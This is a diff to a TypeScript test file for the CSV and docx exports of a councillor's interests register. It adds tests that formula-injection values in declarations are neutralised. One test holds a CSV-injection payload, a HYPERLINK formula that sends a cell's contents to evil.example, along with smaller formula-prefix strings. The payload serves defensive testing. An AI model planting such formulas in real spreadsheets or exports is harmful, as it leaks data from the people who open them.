@@ -1,8 +1,10 @@
 import JSZip from 'jszip';
 import { saveMyDeclaration } from '../../../main/interests/declarations';
-import { csvField, csvLine, declarationsCsv, registerDocx } from '../../../main/interests/exports';
+import { csvField, csvLine } from '../../../main/export/csv';
+import { declarationsCsv, registerDocx } from '../../../main/interests/exports';
 import { saveInterest, saveProfile } from '../../../main/interests/register';
-import { draft, library, type TestLibrary } from './setup';
+import { parseCsv } from '../../helpers/csv';
+import { COMMITTEE, draft, library, type TestLibrary } from './setup';
 
 /** word/document.xml of a .docx (a .docx is a zip archive), read with jszip. */
 async function documentXml(bytes: Uint8Array): Promise<string> {
@@ -68,6 +70,10 @@ describe('exports', () => {
     expect(csvField('cr\rhere')).toBe('"cr\rhere"');
     expect(csvField('=HYPERLINK("x")')).toBe('"\'=HYPERLINK(""x"")"');
     expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
+    expect(csvField('+1')).toBe("'+1");
+    expect(csvField('-1')).toBe("'-1");
+    expect(csvField('\tcmd')).toBe("'\tcmd");
+    expect(csvField('\rcmd')).toBe('"\'\rcmd"');
     expect(csvLine(['a', '', 'c,d'])).toBe('a,,"c,d"');
   });
 
@@ -94,5 +100,27 @@ describe('exports', () => {
     expect(lines).toContain('Minutes,2025-01-14,"Children, Young People and Education Scrutiny Commission",budget items,March,Council Tax support cuts,Not stated,No,,');
     expect(csv.endsWith('\r\n')).toBe(true);
     expect(lines).toHaveLength(5);
+  });
+
+  test('a hostile interest is not a formula in the declarations CSV', () => {
+    const hostile = '=HYPERLINK("https://evil.example/?d="&A1,"Register")';
+    const interest = saveInterest(lib.store.db, draft({ description: hostile, names: ['Evil Ltd'] }));
+    saveMyDeclaration(lib.store.db, {
+      meetingId: lib.meetingId,
+      itemId: null,
+      itemText: '@SUM(1+1)',
+      interestId: interest.id,
+      category: 'other-registrable',
+      nature: hostile,
+      withdrew: false,
+      dispensation: true,
+      dispensationDetails: '+44 20 7946 0000\r\n-cmd',
+    });
+    const csv = declarationsCsv(lib.store.db);
+    const rows = parseCsv(csv);
+    expect(rows.every((r) => r.length === 10)).toBe(true);
+    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    const mine = rows.find((r) => r[5]?.includes('HYPERLINK'));
+    expect(mine).toEqual(['My record', '2025-01-14', COMMITTEE, "'@SUM(1+1)", 'Dr Sarah Moore', `'${hostile}`, 'Other registrable interest', 'No', 'Yes', "'+44 20 7946 0000\r\n-cmd"]);
   });
 });
